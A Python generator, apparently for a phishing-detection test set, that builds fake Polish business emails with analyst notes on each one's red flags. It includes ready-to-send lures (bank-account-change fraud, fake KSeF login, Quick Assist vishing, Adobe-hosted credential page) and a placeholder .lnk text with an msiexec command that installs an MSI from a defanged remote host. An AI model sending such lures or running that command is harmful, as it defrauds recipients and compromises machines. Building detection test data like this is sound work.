"""Polish messages: attack 22-26, business 22-26."""
import base64

from lib.msg import M, message, outlook_html, gmail_html, tb_html, esc
from lib.senders import (env, h_outlook, h_gmail, h_thunderbird, h_outlook_desktop, h_apple, h_phpmailer,
                         h_generic, via_m365, via_exchange, via_gmail, finish)
from lib import mta, docs, ids, qr, png, containers, pdf, mime
from lib.mime import Part, Multipart, RawPart
from lib.org import S, CO, OFF
from lib.util import utc, plus, rfc_date, hexs, alnum, uuid4, addr, local, epoch, b64rand, postfix_qid, exim_id
from msgs.common import outlook_bounds, alt, att, inline_img, mixed, related, text_part, html_part, quote_lines, a_href

PL = OFF["PL"]
PLOG = CO["plog"]
POM = CO["pomorze"]
NIP_EY = PL["tax"][0][1]


def _b64s(s, cs="UTF-8"):
    return "=?%s?B?%s?=" % (cs, base64.b64encode(s.encode(cs)).decode())


def _q(s, cs="iso-8859-2"):
    from lib.util import encoded_word
    return encoded_word(s, cs, "Q")


def _homepl(m, root, hdrs, client_ip, helo="DESKTOP-PL7K2M", dom="partner-logistik.pl"):
    r = m.r
    t = m.env.t
    srv = "serwer%d.home.pl" % 1847263
    sip = "79.96.170.%d" % 134
    pre = [("X-Virus-Scanned", "by amavisd-new using ClamAV (10)"),
           ("X-CLIENT-IP", client_ip), ("X-CLIENT-HOSTNAME", "%s.dynamic.chello.pl" % client_ip.replace(".", "-")),
           ("Received", "from %s (%s) (HELO %s)\r\n by %s (%s) with SMTP (IdeaSmtpServer 6.0.1) via TCP with ESMTPA\r\n id %s; %s"
            % (helo, client_ip, helo, srv, sip, hexs(r, 16), rfc_date(t, "CET")))]
    client = (srv, srv, sip, mta.TLS12)
    return finish(m, root, dict(spf="pass", dkim=[], dmarc=("none", "none", dom)), pre, client, plus(t, 2), hdrs)


# =====================================================================================
# ATTACKS
# =====================================================================================

@message("attack", "22-pl-partner-logistik-zmiana-konta.eml")
def a22():
    m = M("attack", "22-pl-partner-logistik-zmiana-konta.eml")
    t = utc(2026, 11, 25, 8, 14, 51)
    fake = "partner-logistlk.pl"
    sender = "ksiegowosc@" + fake
    env(m, t, S["acc_pl"].email, sender)
    new = m.iban(ids.pl_nrb("1090101", "0000000154218836"), "claimed new account (Santander Bank Polska prefix), not on the VAT white list")
    old = m.iban(PLOG.bank[2], "Partner Logistik's genuine account")
    m.fact("Domain", fake, "look-alike of partner-logistik.pl ('l' instead of 'i' in logistik)")
    paras = ["Szanowni Państwo,", "",
             "uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę, od dnia 01.12.2026 r. wszystkie płatności "
             "na rzecz Partner Logistik sp. z o.o. prosimy kierować na nowy rachunek:", "",
             "Santander Bank Polska S.A.\n%s" % ids.iban_print(new)[2:].strip(), "",
             "Dotychczasowy rachunek w Banku Pekao S.A. (%s) zostanie zamknięty z końcem miesiąca." % ids.iban_print(old)[2:].strip(), "",
             "Nowy rachunek został zgłoszony do Wykazu podatników VAT (tzw. biała lista). Aktualizacja wykazu po stronie Ministerstwa Finansów "
             "może potrwać do 7 dni roboczych - w tym czasie prosimy o realizację płatności na nowy rachunek mimo braku jego widoczności w wykazie. "
             "Płatności za faktury FV 1131/11/2026 i FV 1144/11/2026 prosimy zrealizować już na nowy numer.", "",
             "Pismo informacyjne podpisane przez Zarząd przesyłamy w załączeniu. Prosimy o potwierdzenie otrzymania tej wiadomości.", "",
             "Z poważaniem", "Dział Księgowości", "Partner Logistik sp. z o.o.", "ul. Hutnicza 35, 81-061 Gdynia", "NIP %s" % ids.pl_nip_fmt(PLOG.nip)]
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "PL").replace("charset=utf-8", "charset=iso-8859-2")
    lt, _ = local(t, "CET")
    doc = docs.letter({"Title": "Zmiana rachunku bankowego", "Author": "Ksiegowosc", "Producer": "Microsoft® Word 2019",
                       "CreationDate": pdf.pdf_date(lt)},
                      "Partner Logistik sp. z o.o.", "Spedycja · Magazynowanie · Transport jachtów", "#1B5E20",
                      "Partner Logistik sp. z o.o. · ul. Hutnicza 35 · 81-061 Gdynia",
                      ["Example Yachting Polska sp. z o.o.", "ul. Jachtowa 4", "80-551 Gdańsk"], "Gdynia, 24.11.2026",
                      "Informacja o zmianie rachunku bankowego",
                      ["Szanowni Państwo,", "informujemy, że z dniem 01.12.2026 r. zmienia się rachunek bankowy spółki Partner Logistik sp. z o.o.",
                       ("table", [("Bank", 140), ("Santander Bank Polska S.A.", 343)],
                        [["Numer rachunku", ids.iban_print(new)[2:].strip()], ["Właściciel", "Partner Logistik sp. z o.o."]]),
                       "Prosimy o aktualizację danych w systemach księgowych. Dotychczasowy rachunek zostanie zamknięty."],
                      "Z poważaniem", ["Prezes Zarządu", "Tadeusz Zieliński"],
                      ["Partner Logistik sp. z o.o. · KRS 0000418827 · NIP %s · kapitał zakładowy 200 000 zł" % ids.pl_nip_fmt(PLOG.nip)])
    pdfdata = doc.render()
    msgid = m.msgid_outlook_desktop(fake)
    b_mix, b_alt = m.np(0), m.np(1)
    root = mixed([alt(text, html, "iso-8859-2", "quoted-printable", b_alt),
                  Part("application/pdf", pdfdata, cte="base64", filename="Zmiana_rachunku_Partner_Logistik.pdf", disposition="attachment")], b_mix)
    hdrs = h_outlook_desktop(m, "=?iso-8859-2?Q?Ksi=EAgowo=B6=E6_Partner_Logistik?= <%s>" % sender, [S["acc_pl"].email],
                             "Zmiana numeru rachunku bankowego - Partner Logistik sp. z o.o.", t, "CET", msgid, lang="pl",
                             charset="iso-8859-2", subj_enc="Q")
    body = root.payload()
    pre, client, t_mx, bp = mta.exim(m.env, "s94.cyber-folks.pl", "203.0.113.94", body, sender, client_ip="188.114.%d.%d" % (m.r.randrange(256), m.r.randrange(256)),
                                     client_helo="DESKTOP-U8V1T2R", dkim_d=fake, dkim_s="x")
    finish(m, root, dict(spf="pass", dkim=[("pass", fake, "x", bp, 2048)], dmarc=("none", "none", fake)), pre, client, t_mx, hdrs)
    m.info = dict(charset="iso-8859-2", cte="quoted-printable", structure="mixed(alternative(text, html), PDF letter)",
                  what="Bank-account change 'from' the logistics partner's accounting on a look-alike domain",
                  why="partner-logistlk.pl (l for i) on cheap cPanel hosting; real Partner Logistik mails come from home.pl without DKIM; "
                      "asks to pay although the account is not on the VAT white list (a legal red flag in Poland), names open invoices")
    return m


@message("attack", "23-pl-ksef-uprawnienia-phishing.eml")
def a23():
    m = M("attack", "23-pl-ksef-uprawnienia-phishing.eml")
    t = utc(2026, 10, 14, 7, 2, 16)
    dom = "ksef-powiadomienia.pl"
    env(m, t, S["acc_pl"].email, "bounces-%s@%s" % (hexs(m.r, 8), "sender-sib.com"))
    link = m.url("https://ksef-podatki-gov.pl/logowanie/?nip=%s&ref=KSeF-ODR-20261014" % NIP_EY, "fake login.gov.pl / KSeF login page")
    html = ("<!DOCTYPE html><html lang=\"pl\"><head><meta charset=\"utf-8\"></head><body style=\"margin:0;background:#f5f5f5;font-family:Lato,Arial,sans-serif\">"
            "<table width=\"600\" align=\"center\" style=\"background:#fff\"><tr><td style=\"padding:20px 30px;border-bottom:4px solid #d4213d\">"
            "<b style=\"font-size:18px\">Krajowy System e-Faktur</b><br><span style=\"font-size:12px;color:#555\">Ministerstwo Finansów</span></td></tr>"
            "<tr><td style=\"padding:24px 30px;font-size:14px;line-height:22px\">Szanowni Państwo,<br><br>"
            "faktura ustrukturyzowana <b>FV/2026/10/0871</b> wystawiona w imieniu podmiotu o NIP <b>%s</b> została <b>odrzucona</b> (kod błędu 21405: "
            "brak ważnych uprawnień do wystawiania faktur).<br><br>Zgodnie z obowiązkiem stosowania KSeF uprawnienia nadane przed 01.02.2026 wymagają "
            "ponownego potwierdzenia. Do czasu potwierdzenia faktury sprzedażowe nie będą przyjmowane przez system.<br><br>"
            "<a href=\"%s\" style=\"background:#d4213d;color:#fff;padding:11px 24px;text-decoration:none;font-weight:bold\">Potwierdź uprawnienia (login.gov.pl)</a>"
            "<br><br>Wiadomość wygenerowana automatycznie - prosimy na nią nie odpowiadać.</td></tr>"
            "<tr><td style=\"padding:16px 30px;font-size:11px;color:#777\">Ministerstwo Finansów, ul. Świętokrzyska 12, 00-916 Warszawa</td></tr></table></body></html>"
            % (NIP_EY, link))
    text = ("Szanowni Państwo,\n\nfaktura ustrukturyzowana FV/2026/10/0871 wystawiona w imieniu podmiotu o NIP %s została odrzucona "
            "(kod błędu 21405: brak ważnych uprawnień do wystawiania faktur).\n\nPotwierdź uprawnienia (login.gov.pl): %s\n\n"
            "Ministerstwo Finansów\n" % (NIP_EY, link))
    root = alt(text, html, "utf-8", "quoted-printable", m.boundary("generic"))
    msgid = "<%s@smtp-relay.mailin.fr>" % uuid4(m.r)
    hdrs = [("Date", rfc_date(t, "UTC", "std")), ("Subject", _b64s("KSeF: odrzucono fakturę FV/2026/10/0871 – wymagane potwierdzenie uprawnień")),
            ("From", "=?utf-8?q?Krajowy_System_e-Faktur?= <powiadomienia@%s>" % dom), ("To", S["acc_pl"].email),
            ("Message-Id", msgid), ("MIME-Version", "1.0"), ("MIME", None), ("Origin-messageId", "<%s@%s>" % (uuid4(m.r), dom)),
            ("List-Unsubscribe", "<https://%s.r.sp1-brevo.net/mk/un/v2/%s>" % (alnum(m.r, 6).lower(), alnum(m.r, 40))),
            ("Feedback-ID", "%d:%d:%s:Sendinblue" % (m.r.randrange(10 ** 6), m.r.randrange(10 ** 6), "campaign"))]
    body = root.payload()
    pre, post, client, t_mx, (bp, bp2) = mta.brevo(m.env, body, dom)
    finish(m, root, dict(spf="pass", dkim=[("pass", dom, "mail", bp, 2048)], dmarc=("pass", "none", dom)), pre, client, t_mx, hdrs + post)
    m.info = dict(charset="utf-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="KSeF (Polish national e-invoicing) phishing: 'invoice rejected, confirm permissions via login.gov.pl'",
                  why="KSeF does not send such e-mails; look-alike ksef-powiadomienia.pl via Brevo bulk mail; button leads to ksef-podatki-gov.pl "
                      "(not gov.pl); threat that sales invoices will be blocked")
    return m


@message("attack", "24-pl-faktura-pge-iso.eml")
def a24():
    m = M("attack", "24-pl-faktura-pge-iso.eml")
    t = utc(2026, 11, 17, 10, 41, 9)
    sender = "pge.efaktura24@onet.pl"
    env(m, t, S["om_pl"].email, sender)
    lnk = ("INERT TEST PLACEHOLDER - NOT A REAL SHORTCUT.\r\nRepresents a .lnk launching:\r\n"
           "C:\\Windows\\System32\\msiexec.exe /q /i hxxps://pge-efaktura[.]cfd/inst/efaktura.msi\r\n")
    m.fact("Payload URL (defanged)", "hxxps://pge-efaktura[.]cfd/inst/efaktura.msi", "text inside inert LNK placeholder")
    iso = containers.make_iso([("e-Faktura_11-2026_00418736.pdf.lnk", lnk.encode(), "EFAKTU~1.LNK")], "EFAKTURA", dt=(2026, 11, 17, 11, 20, 0))
    text = ("Szanowny Kliencie,\n\nw załączeniu przesyłamy e-fakturę za energię elektryczną za okres 01.11.2026-30.11.2026 (prognoza).\n\n"
            "Numer faktury: 11/2026/00418736\nKwota do zapłaty: 1 846,17 zł\nTermin płatności: 28.11.2026\n\n"
            "Fakturę można otworzyć, klikając dwukrotnie załączony plik.\n\nZ poważaniem\nPGE Obrót S.A.\nBiuro Obsługi Klienta\n")
    root = mixed([Part("text/plain", text, charset="iso-8859-2", cte="base64"),
                  Part("application/octet-stream", iso, cte="base64", filename="e-Faktura_11-2026_00418736.iso", disposition="attachment")],
                 m.boundary("generic"))
    msgid = "<%s@onet.pl>" % alnum(m.r, 30)
    hdrs = [("Date", rfc_date(t, "CET")), ("From", "=?iso-8859-2?Q?PGE_Obr=F3t_S.A.?= <%s>" % sender), ("To", S["om_pl"].email),
            ("Subject", "=?iso-8859-2?Q?e-Faktura_PGE_za_listopad_2026_nr_11/2026/00418736?="), ("Message-ID", msgid),
            ("MIME-Version", "1.0"), ("MIME", None), ("X-Mailer", "Poczta Onet")]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "onet.pl", "2011", "From:To:Subject:Date:Message-ID", body, t=int(epoch(t)))
    bot = "91.242.%d.%d" % (r.randrange(256), r.randrange(256))
    pre = [("DKIM-Signature", dv), ("X-Onet-PMQ", "%s;%s;0;0" % (alnum(r, 12), bot)),
           ("Received", "from [%s] (unknown [%s])\r\n\tby smtp.poczta.onet.pl (Onet) with ESMTPA id 4d%s\r\n\tfor <%s>; %s"
            % (bot, bot, alnum(r, 10), S["om_pl"].email, rfc_date(t, "CET", "postfix")))]
    ip = "213.180.149.%d" % r.randrange(130, 160)
    host = "smtpo%d.poczta.onet.pl" % r.randrange(100, 120)
    client = (host, host, ip, mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "onet.pl", "2011", bp, 2048)], dmarc=("pass", "none", "onet.pl")), pre, client, plus(t, 1), hdrs)
    m.info = dict(charset="iso-8859-2", cte="base64", structure="mixed(text/plain, ISO image)",
                  what="Fake PGE electricity e-invoice with an ISO disk image containing a shortcut",
                  why="Utility brand on a free Onet mailbox; ISO containers bypass Mark-of-the-Web; inner 'PDF' is a .pdf.lnk (inert placeholder "
                      "with the msiexec command as text); 'double-click the attachment'")
    return m


@message("attack", "25-pl-helpdesk-quick-assist.eml")
def a25():
    m = M("attack", "25-pl-helpdesk-quick-assist.eml")
    t = utc(2026, 10, 27, 12, 36, 48)
    sender = "it.helpdesk.examplegroup@proton.me"
    env(m, t, S["om_pl"].email, sender)
    tel = m.phone("+48 22 307 41 88", "'IT' call-back number")
    paras = ["Dzień dobry Pani Katarzyno,", "",
             "od rana obserwujemy na Pani skrzynce masowy napływ wiadomości (tzw. spam-bombing, kilkaset newsletterów na godzinę). "
             "To zwykle poprzedza próbę przejęcia konta, dlatego musimy zainstalować na Pani komputerze zaktualizowany filtr antyspamowy.", "",
             "Proszę o przygotowanie się do krótkiego zdalnego połączenia:", "1. Proszę nacisnąć Ctrl + Windows + Q (aplikacja \"Szybka pomoc\" / Quick Assist).",
             "2. Wybrać \"Pomóż komuś\" nie jest potrzebne - wystarczy okno \"Uzyskaj pomoc\".",
             "3. Za kilka minut zadzwonimy z numeru %s i podamy 6-znakowy kod zabezpieczający." % tel, "",
             "Prosimy nie zgłaszać tego przez formularz helpdesku - system zgłoszeń jest obecnie obciążony przez tę samą kampanię.", "",
             "Z pozdrowieniami", "Thomas Becker", "Head of IT | Example Group", "Am Sandtorkai 48, 20457 Hamburg"]
    html = ("<div style=\"font-family: Arial, sans-serif; font-size: 14px;\">" + "".join("<div>%s</div>" % (esc(p) or "<br>") for p in paras)
            + "</div><div style=\"font-family: Arial, sans-serif; font-size: 14px;\"><br></div><div class=\"protonmail_signature_block protonmail_signature_block-empty\" "
              "style=\"font-family: Arial, sans-serif; font-size: 14px;\"></div>")
    root = Multipart("mixed", [Part("text/html", html, charset="utf-8", cte="base64")], m.boundary("generic"))
    msgid = "<%s=@proton.me>" % alnum(m.r, 60)
    hdrs = [("Date", rfc_date(t, "UTC", "std")), ("To", "=?utf-8?Q?Katarzyna_W=C3=B3jcik?= <%s>" % S["om_pl"].email),
            ("From", "\"IT Helpdesk - Example Group\" <%s>" % sender),
            ("Subject", _b64s("Pilne: aktualizacja filtra antyspamowego – połączenie Quick Assist")), ("Message-ID", msgid),
            ("Feedback-ID", "%s==:Ext:ProtonMail" % alnum(m.r, 80)), ("X-Pm-Message-ID", "%s==" % alnum(m.r, 80)),
            ("X-Pm-Origin", "internal"), ("X-Pm-Content-Encryption", "end-to-end"), ("X-Pm-Spamscore", "0"),
            ("MIME-Version", "1.0"), ("MIME", None)]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "proton.me", "protonmail3", "Date:To:From:Subject:Message-ID:Feedback-ID:From:To:Cc:Date:Subject:Reply-To:Feedback-ID:Message-ID:BIMI-Selector",
                      body, t=int(epoch(t)), c="relaxed/simple")
    pre = [("DKIM-Signature", dv)]
    ip = "185.70.43.%d" % r.randrange(16, 30)
    client = ("mail-%d.protonmail.ch" % (4300 + int(ip.split(".")[-1])), "mail-%d.protonmail.ch" % (4300 + int(ip.split(".")[-1])), ip, mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "proton.me", "protonmail3", bp, 2048)], dmarc=("pass", "quarantine", "proton.me")),
           pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="utf-8", cte="base64", structure="mixed(text/html)",
                  what="Help-desk pretext after spam-bombing: 'IT' asks to open Quick Assist and wait for a call with a code",
                  why="Head of IT's name on a Proton Mail address, tells the user not to use the real helpdesk, remote-access setup "
                      "(Quick Assist) and a call from an unknown number - the pattern used before ransomware intrusions")
    return m


@message("attack", "26-pl-zapytanie-ofertowe-adobe.eml")
def a26():
    m = M("attack", "26-pl-zapytanie-ofertowe-adobe.eml")
    t = utc(2026, 12, 8, 9, 18, 33)
    env(m, t, S["om_pl"].email, "bounce-%s@mail.adobe.com" % hexs(m.r, 12))
    link = m.url("https://acrobat.adobe.com/id/urn:aaid:sc:EU:7c1f3a2b-48d6-4e0a-9b25-6d83f1e0c947",
                 "real Adobe Acrobat share; the PDF on Adobe links to a fake Microsoft 365 login")
    msg_text = ("Dzień dobry, w imieniu Szkoły Żeglarstwa Horyzont przesyłamy zapytanie ofertowe ZO/12/2026 na czarter 6 jachtów "
                "(Chorwacja, 08-15.05.2027). Prosimy o ofertę do 11.12.")
    html = ("<!DOCTYPE html><html lang=\"pl\"><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"></head>"
            "<body style=\"margin:0;background:#f5f5f5;font-family:adobe-clean,'Source Sans Pro',Arial,sans-serif\"><table width=\"100%%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\" style=\"padding:30px 10px\">"
            "<table width=\"560\" style=\"background:#fff;border-radius:4px\"><tr><td style=\"padding:30px 40px 10px\"><img src=\"https://acrobat.adobe.com/email-assets/acrobat-logo.png\" width=\"32\" alt=\"Adobe Acrobat\"></td></tr>"
            "<tr><td style=\"padding:10px 40px;font-size:22px;color:#2c2c2c\">Ewa Pawlak udostępnia Ci plik</td></tr>"
            "<tr><td style=\"padding:10px 40px;font-size:15px;color:#4b4b4b\">%s</td></tr>"
            "<tr><td style=\"padding:10px 40px\"><table style=\"border:1px solid #e1e1e1;width:100%%\"><tr><td style=\"padding:12px;font-size:14px\">&#128196; ZO_12_2026_czarter_Chorwacja.pdf</td></tr></table></td></tr>"
            "<tr><td style=\"padding:20px 40px\"><a href=\"%s\" style=\"background:#1473e6;color:#fff;padding:10px 22px;border-radius:16px;text-decoration:none;font-weight:bold\">Otwórz</a></td></tr>"
            "<tr><td style=\"padding:20px 40px;font-size:11px;color:#6e6e6e\">Adobe Inc., 345 Park Avenue, San Jose, CA 95110-2704, USA<br>"
            "Otrzymujesz tę wiadomość, ponieważ ktoś udostępnił Ci plik za pośrednictwem Adobe Acrobat.</td></tr></table></td></tr></table></body></html>"
            % (esc(msg_text), link))
    text = "Ewa Pawlak udostępnia Ci plik\n\n%s\n\nZO_12_2026_czarter_Chorwacja.pdf\nOtwórz: %s\n\nAdobe Inc., 345 Park Avenue, San Jose, CA 95110-2704, USA\n" % (msg_text, link)
    root = alt(text, html, "UTF-8", "quoted-printable", m.boundary("generic"), quote_cs=False)
    msgid = "<%s@adobe.com>" % uuid4(m.r)
    hdrs = [("From", "Adobe Acrobat <message@adobe.com>"), ("Reply-To", "e.pawlak@szkola-horyzont.pl"),
            ("To", S["om_pl"].email), ("Subject", _b64s("Ewa Pawlak udostępnia Ci plik „ZO_12_2026_czarter_Chorwacja.pdf”")),
            ("Date", rfc_date(t, "UTC", "std")), ("Message-ID", msgid), ("MIME-Version", "1.0"), ("MIME", None),
            ("X-Adobe-Campaign", "DC-Share-Invite"), ("X-Sender-Ref", "e.pawlak@szkola-horyzont.pl")]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "adobe.com", "adbe-2048", "From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type", body, t=int(epoch(t)))
    ip = "130.248.%d.%d" % (r.randrange(170, 180), r.randrange(10, 250))
    pre = [("DKIM-Signature", dv)]
    client = ("r%d.mail.adobe.com" % r.randrange(10, 99), "r%d.mail.adobe.com" % r.randrange(10, 99), ip, mta.TLS12)
    client = (client[1], client[1], ip, mta.TLS12)
    finish(m, root, dict(spf="pass", dkim=[("pass", "adobe.com", "adbe-2048", bp, 2048)], dmarc=("pass", "reject", "adobe.com")), pre, client, plus(t, 2), hdrs)
    m.fact("Reply-To", "e.pawlak@szkola-horyzont.pl", "sailing school mailbox, compromised")
    m.info = dict(charset="UTF-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Fake request for quotation (6-yacht charter) shared via a real Adobe Acrobat link from a compromised sailing-school account",
                  why="Legitimate Adobe mail (auth passes); the 'RFQ' PDF on Adobe only contains a 'view full document' button to a Microsoft 365 "
                      "credential page; first-time contact, short deadline, no RFQ text in the mail itself")
    return m


# =====================================================================================
# BUSINESS
# =====================================================================================

@message("business", "22-pl-partner-logistik-faktura-qr.eml")
def b22():
    m = M("business", "22-pl-partner-logistik-faktura-qr.eml")
    t = utc(2026, 11, 30, 11, 1, 33)
    sender = PLOG.people[1][1]
    env(m, t, S["acc_pl"].email, sender)
    nrb = PLOG.bank[2]
    m.iban(nrb, "Partner Logistik's account (on the VAT white list)")
    gross = 8240.10
    payload = docs.pl_qr(PLOG.nip, nrb[2:], int(round(gross * 100)), "Partner Logistik", "FV 1182/11/2026")
    m.qr.append(("PDF FV_1182_11_2026.pdf", payload))
    ksef = m.fact("KSeF number", "%s-20261130-3F9A0C21B7E4-5D" % PLOG.nip, "KSeF reference of the structured invoice")
    fmt = lambda v: "{:,.2f}".format(v).replace(",", " ").replace(".", ",")
    net = round(gross / 1.23, 2)
    vat = round(gross - net, 2)
    lt, _ = local(t, "CET")
    doc = docs.invoice({"Title": "Faktura VAT FV 1182/11/2026", "Author": "Partner Logistik", "Producer": "Comarch ERP Optima 2026.1",
                        "CreationDate": pdf.pdf_date(lt)},
                       "Partner Logistik sp. z o.o.", "Spedycja · Magazynowanie · Transport jachtów", "#1B5E20",
                       "Partner Logistik sp. z o.o. · ul. Hutnicza 35 · 81-061 Gdynia · NIP %s" % ids.pl_nip_fmt(PLOG.nip),
                       ["Example Yachting Polska sp. z o.o.", "ul. Jachtowa 4", "80-551 Gdańsk", "NIP %s" % ids.pl_nip_fmt(NIP_EY)],
                       "Faktura VAT nr FV 1182/11/2026",
                       [("Data wystawienia", "30.11.2026"), ("Data sprzedaży", "27.11.2026"), ("Termin płatności", "14.12.2026"), ("Nr KSeF", ksef[:24] + "…")],
                       [("Lp.", 30), ("Nazwa usługi", 280), ("Netto", 70), ("VAT", 40), ("Brutto", 63)],
                       [["1", "Transport jachtu Pomorze 41 (BN 41-116) Ostróda - Gdańsk, naczepa niskopodwoziowa", fmt(4850.00), "23%", fmt(5965.50)],
                        ["2", "Magazynowanie zimowe hala B, 11/2026 (2 jednostki)", fmt(net - 4850.00), "23%", fmt(gross - 5965.50)]],
                       ["l", "l", "r", "r", "r"],
                       [("Razem netto", fmt(net) + " zł", False), ("VAT 23%", fmt(vat) + " zł", False), ("Do zapłaty", fmt(gross) + " zł", True)],
                       ["Forma płatności: przelew, termin 14 dni. Rachunek: Bank Pekao S.A. %s" % ids.iban_print(nrb),
                        "Rachunek znajduje się w wykazie podatników VAT (biała lista). Mechanizm podzielonej płatności nie dotyczy.",
                        "Faktura wystawiona w Krajowym Systemie e-Faktur, numer KSeF: %s" % ksef],
                       ["Partner Logistik sp. z o.o. · KRS 0000418827 · NIP %s" % ids.pl_nip_fmt(PLOG.nip)],
                       qr_payload=payload, qr_caption="Zapłać kodem QR w aplikacji banku", logo="ring")
    pdfdata = doc.render()
    paras = ["Dzień dobry,", "",
             "w załączeniu przesyłamy wizualizację faktury FV 1182/11/2026 (transport BN 41-116 oraz magazynowanie za listopad). "
             "Faktura została wystawiona w KSeF pod numerem %s." % ksef, "",
             "Rachunek bez zmian - Bank Pekao S.A., zgodny z białą listą.", "",
             "Pozdrawiamy", "Dział Księgowości", "Partner Logistik sp. z o.o.", "tel. +48 58 661 27 40 w. 3"]
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "PL").replace("charset=utf-8", "charset=iso-8859-2")
    msgid = m.msgid_outlook_desktop("partner-logistik.pl")
    root = mixed([alt(text, html, "iso-8859-2", "quoted-printable", m.np(1)),
                  Part("application/pdf", pdfdata, cte="base64", filename="FV_1182_11_2026.pdf", disposition="attachment")],
                 m.np(0))
    hdrs = h_outlook_desktop(m, "=?iso-8859-2?Q?Ksi=EAgowo=B6=E6_-_Partner_Logistik?= <%s>" % sender, ["Piotr Nowak <%s>" % S["acc_pl"].email],
                             "Faktura FV 1182/11/2026 - Partner Logistik", t, "CET", msgid, lang="pl", charset="iso-8859-2", subj_enc="Q")
    _homepl(m, root, hdrs, "83.24.117.%d" % m.r.randrange(2, 250))
    m.info = dict(charset="iso-8859-2", cte="quoted-printable", structure="mixed(alternative(text, html), PDF invoice with payment QR)",
                  what="Partner Logistik's monthly invoice with KSeF number and Polish payment QR code",
                  why="Sent from partner-logistik.pl via home.pl as always (SPF pass; the partner has no DKIM/DMARC), known account on the white list "
                      "in text, PDF and QR, real KSeF reference",
                  mirrors=["22-pl-partner-logistik-zmiana-konta.eml", "23-pl-ksef-uprawnienia-phishing.eml"],
                  differs="real domain, unchanged account, KSeF number instead of a KSeF login request")
    return m


@message("business", "23-pl-harmonogram-transportow-xlsx.eml")
def b23():
    m = M("business", "23-pl-harmonogram-transportow-xlsx.eml")
    t = utc(2026, 10, 20, 13, 27, 40)
    sender = PLOG.people[0][1]
    env(m, t, S["om_pl"].email, sender)
    rows = [["Data", "Jednostka", "Nr budowy", "Z", "Do", "Kierowca", "Uwagi"],
            ["2026-10-26", "Pomorze 38", "38-207", "Ostróda", "Gdańsk, Marina Przystań", "K. Lewandowski", "przejazd nocny"],
            ["2026-10-28", "Pomorze 41", "41-116", "Ostróda", "Gdańsk, hala B", "K. Lewandowski", "magazyn zimowy"],
            ["2026-11-04", "Pomorze 46", "46-031", "Ostróda", "Hamburg, Sandtorhafen", "M. Górski", "pilot od granicy DE"],
            ["2026-11-12", "Pomorze 41", "41-117", "Ostróda", "Laboe (Hellwig Werft)", "M. Górski", "zgłoszenie Zoll - dokumenty od Was"]]
    xlsx = containers.make_xlsx([("Harmonogram", rows), ("Kontakty", [["Osoba", "Telefon"], ["Tadeusz Zieliński", "+48 601 448 120"],
                                                                      ["Dyspozytor nocny", "+48 58 661 27 49"]])],
                                "Harmonogram transportów 10-11/2026", "Tadeusz Zieliński", "2026-10-20T13:20:00Z", "Partner Logistik sp. z o.o.",
                                dt=(2026, 10, 20, 15, 20, 0))
    m.phone("+48 601 448 120", "T. Zieliński's mobile (in XLSX and signature)")
    paras = ["Pani Katarzyno,", "",
             "w załączeniu harmonogram transportów na przełom października i listopada. Proszę zwrócić uwagę na 12.11 - jednostka 41-117 "
             "jedzie do Laboe, potrzebujemy od Państwa dokumentów do odprawy (faktura sprzedaży i deklaracja CE) najpóźniej 09.11.", "",
             "W razie zmian proszę dzwonić bezpośrednio na komórkę.", "",
             "Pozdrawiam", "Tadeusz Zieliński", "Kierownik spedycji", "Partner Logistik sp. z o.o.", "tel. +48 601 448 120"]
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "PL").replace("charset=utf-8", "charset=windows-1250")
    msgid = m.msgid_outlook_desktop("partner-logistik.pl")
    root = mixed([alt(text, html, "windows-1250", "quoted-printable", m.np(1)),
                  Part("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx, cte="base64",
                       filename="Harmonogram_transportow_10-11_2026.xlsx", disposition="attachment")], m.np(0))
    hdrs = h_outlook_desktop(m, "=?windows-1250?Q?Tadeusz_Zieli=F1ski?= <%s>" % sender, ["=?windows-1250?Q?Katarzyna_W=F3jcik?= <%s>" % S["om_pl"].email],
                             "Harmonogram transportów 10-11/2026", t, "CET", msgid, lang="pl", charset="windows-1250", subj_enc="Q",
                             cc=["Piotr Nowak <%s>" % S["acc_pl"].email])
    _homepl(m, root, hdrs, "83.24.117.%d" % m.r.randrange(2, 250), helo="TZIELINSKI-NB")
    m.info = dict(charset="windows-1250", cte="quoted-printable", structure="mixed(alternative(text, html), XLSX)",
                  what="Logistics partner sends the transport schedule for new yachts as an Excel file",
                  why="Usual sender and path (home.pl), attachment is a plain XLSX without macros, operational content matching the yard deliveries",
                  mirrors=[], differs="")
    return m


@message("business", "24-pl-zgloszenie-phishingu-eml.eml")
def b24():
    m = M("business", "24-pl-zgloszenie-phishingu-eml.eml")
    t = utc(2026, 10, 27, 12, 52, 10)
    env(m, t, "helpdesk@example.com", S["om_pl"].email)
    from msgs.pl import a25 as _a25
    reported = _a25().eml
    paras = ["Dzień dobry,", "",
             "zgłaszam podejrzaną wiadomość - przyszła z adresu proton.me, podpisana nazwiskiem Thomasa Beckera, z prośbą o uruchomienie "
             "Szybkiej pomocy i czekanie na telefon. Od rana dostaję też setki newsletterów, o których mowa w mailu.", "",
             "Niczego nie uruchamiałam i nikt jeszcze nie dzwonił. Oryginał w załączniku.", "",
             "Pozdrawiam", "Katarzyna Wójcik", "Office Manager | Example Yachting Polska sp. z o.o.", "ul. Jachtowa 4, 80-551 Gdańsk | +48 58 350 41 20"]
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "PL")
    msgid = m.msgid_exchange("EXCH02")
    b = outlook_bounds(msgid)
    root = mixed([alt(text, html, "utf-8", "quoted-printable", b["alt"]),
                  RawPart("message/rfc822", reported, disposition="attachment", filename="Pilne aktualizacja filtra antyspamowego.eml")],
                 b["mixed"])
